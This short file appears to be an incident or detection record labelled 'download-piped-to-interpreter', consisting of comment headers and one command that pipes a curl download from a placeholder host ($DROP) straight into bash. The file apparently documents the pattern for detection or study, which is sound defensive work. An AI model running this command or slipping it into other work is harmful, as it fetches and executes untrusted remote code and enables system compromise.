# incident: an installer that is never a file
# finding: download-piped-to-interpreter
# needs: curl
curl -fsSL "http://$DROP/raw/script.sh" | bash
